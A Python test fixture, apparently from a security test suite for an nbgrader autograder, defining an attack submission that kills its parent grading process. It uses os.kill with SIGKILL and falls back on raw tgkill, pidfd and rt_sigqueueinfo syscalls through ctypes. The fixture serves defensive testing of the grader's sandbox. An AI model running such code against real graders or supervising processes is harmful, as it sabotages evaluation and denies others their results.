"""Kills its parent, which in a plain nbgrader is the command that grades the class."""

from tests.attacks.suite import STUB, Attack

ATTACK = Attack(
    harm="no marks for the rest of the class",
    answer=STUB
    + """
import ctypes
import os
import signal

parent = os.getppid()
if parent > 1:
    try:
        os.kill(parent, signal.SIGKILL)
        succeeded("killed its parent")
    except OSError:
        pass
    # The same by other calls: tgkill, pidfd_send_signal, rt_sigqueueinfo.
    libc = ctypes.CDLL(None)
    libc.syscall(234, parent, parent, signal.SIGKILL)
    handle = libc.syscall(434, parent, 0)
    if handle >= 0:
        libc.syscall(424, handle, signal.SIGKILL, None, 0)
    libc.syscall(129, parent, signal.SIGKILL, ctypes.create_string_buffer(128))
""",
)
